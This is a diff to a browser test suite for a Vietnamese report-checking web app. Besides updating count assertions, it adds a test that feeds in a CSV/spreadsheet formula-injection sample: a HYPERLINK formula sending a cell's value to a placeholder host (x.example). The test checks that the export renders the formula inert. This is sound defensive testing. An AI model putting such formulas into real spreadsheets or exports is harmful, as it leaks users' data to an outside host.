@@ -3,7 +3,7 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { join } from 'node:path';
-import { serverAndBrowser, SEED, SEED_COUNTS, SCREENSHOTS, openApp, paste, after, counts, markOf, cellsMarked, eventually } from './helpers.mjs';
+import { serverAndBrowser, SEED, assertSeedCounts, SCREENSHOTS, openApp, paste, after, counts, markOf, cellsMarked, eventually, parseCsv, spreadsheetWouldRun } from './helpers.mjs';
 
 const env = serverAndBrowser();
 
@@ -54,7 +54,7 @@ test('pasting the seed report shows its 7 forms, no failure, and the two 0/0 rat
   const { context, page } = await fresh();
   const summary = await after(page, () => paste(page, { plain: SEED }));
   // The counts include the narrative's checks (two of its sentences are warned too).
-  assert.deepEqual(summary, SEED_COUNTS);
+  assertSeedCounts(summary);
   await assert.doesNotReject(page.getByText('Các bảng không có lỗi tính toán, nhưng lời văn có 2 chỗ không khớp với số liệu. Có 4 cảnh báo cần xem lại.').waitFor());
 
   const headings = await page.locator('.ks-form-h .ks-form-no').allInnerTexts();
@@ -146,7 +146,7 @@ test('the example button loads the sample report and checks it', async () => {
   const { context, page } = await fresh();
   assert.match(await page.locator('#empty').innerText(), /Chưa có gì để kiểm tra/);
   const summary = await after(page, () => page.getByRole('button', { name: 'Dùng báo cáo mẫu' }).click());
-  assert.deepEqual(summary, SEED_COUNTS);
+  assertSeedCounts(summary);
   assert.equal(await page.locator('.ks-form').count(), 7);
   assert.match(await page.locator('#input').inputValue(), /tỉnh Khánh Hòa/);
   assert.equal(await page.locator('#empty').isVisible(), false);
@@ -244,7 +244,7 @@ test('notices about the input are listed with their line, which the link selects
 test('opening a file: text files fill the text box; Word/Excel go to checkFile or get a clear message', async () => {
   const { context, page } = await fresh();
   const summary = await after(page, () => page.locator('#file').setInputFiles({ name: 'bao-cao.txt', mimeType: 'text/plain', buffer: Buffer.from(SEED) }));
-  assert.deepEqual(summary, SEED_COUNTS);
+  assertSeedCounts(summary);
   assert.match(await page.locator('#input').inputValue(), /Biểu mẫu số 07/);
 
   const hasCheckFile = await page.evaluate(() => document.documentElement.dataset.checkFile === 'true');
@@ -284,6 +284,38 @@ test('the summary counts match the checks listed in the CSV and JSON downloads',
   await context.close();
 });
 
+test('downloads after a what-if edit carry the printed figure and the edit; hostile text reaches Excel inert', async () => {
+  const { context, page } = await fresh();
+  // Another unit's table whose indicator is a formula (it would become a live link in Excel).
+  const hostile = 'Biểu mẫu số 01\nSTT\tChỉ tiêu\tĐơn vị tính\tSố liệu\tGhi chú\n' +
+    '2.\t=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")\t%\t31,14\t\n2.1.\t@SUM(1+1)\tNhiệm vụ\t61\t\n2.2.\t+Số nhiệm vụ đã hoàn thành\tNhiệm vụ\t19\t\n';
+  await after(page, () => paste(page, { plain: `${SEED}\n${hostile}` }));
+  await after(page, () => page.locator('tr[data-cell="B03/3.1.2"] .ks-input').fill('66.678'));
+  const fs = await import('node:fs');
+  const [csv] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Tải CSV' }).click()]);
+  const csvText = fs.readFileSync(/** @type {string} */ (await csv.path()), 'utf8');
+  const rows = parseCsv(csvText);
+  const header = rows[0];
+  const [value, printed, tried] = ['Số liệu', 'Số liệu gốc (in trong báo cáo)', 'Thử sửa'].map((c) => header.indexOf(c));
+  assert.ok(value === 5 && printed > 0 && tried > 0, header.join(' | '));
+  // The ratio checked with the edited figure says so, with both figures.
+  const ratio = rows.find((r) => r[1] === 'B03/3.1');
+  assert.match(String(ratio?.[tried]), /B03\/3\.1\.2: 66\.687 → 66\.678/);
+  // The edited cell's own checks give the printed figure beside the tried one.
+  const own = rows.find((r) => r[1] === 'B03/3.1.2');
+  assert.deepEqual([own?.[value], own?.[printed]], ['66.678', '66.687']);
+  // No field could run in a spreadsheet; the hostile indicator is kept, inert.
+  for (const f of rows.flat()) assert.ok(!spreadsheetWouldRun(f), `a field a spreadsheet would run: ${JSON.stringify(f)}`);
+  assert.ok(rows.some((r) => r[3] === '\'=HYPERLINK("http://x.example/?"&D3,"Bấm vào đây")'));
+
+  const [json] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Tải JSON' }).click()]);
+  const data = JSON.parse(fs.readFileSync(/** @type {string} */ (await json.path()), 'utf8'));
+  const row = data.forms.flatMap((/** @type {any} */ f) => f.table).find((/** @type {any} */ r) => r.cell === 'B03/3.1.2');
+  assert.deepEqual([row.value, row.original, row.edited], ['66.678', '66.687', true]);
+  assert.deepEqual(data.edits, [{ cell: 'B03/3.1.2', original: '66.687', value: '66.678' }]);
+  await context.close();
+});
+
 test('"Chép tóm tắt" puts a short text summary on the clipboard', async () => {
   const context = await env.browser.newContext({ serviceWorkers: 'block' });
   await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(env.server.url).origin });
@@ -293,7 +325,7 @@ test('"Chép tóm tắt" puts a short text summary on the clipboard', async () =
   await eventually(async () => (await page.locator('#status').innerText()).includes('Đã chép tóm tắt'));
   const copied = await page.evaluate(() => navigator.clipboard.readText());
   assert.match(copied, /^Kiểm số — kết quả kiểm tra số liệu/);
-  assert.match(copied, /7 bảng, 259 phép kiểm tra \(169 trên bảng, 90 trong lời văn\): 0 lỗi, 4 cảnh báo, 255 đạt, 0 không tính được\./);
+  assert.match(copied, /7 bảng, \d+ phép kiểm tra \(169 trên bảng, \d+ trong lời văn\): 0 lỗi, 4 cảnh báo, \d+ đạt, 0 không tính được\./);
   assert.match(copied, /Cảnh báo \(4\):\n- Biểu mẫu số 01, dòng 3\.3: /);
   assert.match(copied, /\n- Lời văn \(dòng 37\): Câu «Triển khai Kế hoạch/);
   assert.match(copied, /\n- Lời văn \(dòng 369\): Câu «…53 cơ quan cấp tỉnh/);
